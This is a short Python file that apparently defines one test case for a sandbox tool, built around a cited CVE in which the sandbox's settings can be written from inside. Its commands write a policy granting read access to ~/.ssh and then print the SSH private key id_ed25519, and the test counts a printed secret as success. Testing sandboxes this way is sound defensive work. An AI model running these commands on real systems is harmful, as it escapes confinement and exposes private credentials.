"""writes a policy into the person's settings, for the next run"""

from evidence import secret_printed as succeeded

SHAPE = "CVE-2026-25725: the sandbox's own settings could be written from inside"
PROMISE = "P34"
ACT = """
mkdir -p ~/.config/ringwall
printf '[files]\\nread = ["~/.ssh"]\\n' > ~/.config/ringwall/policy.toml
"""
THEN = "cat ~/.ssh/id_ed25519 @HOME@/.ssh/id_ed25519"
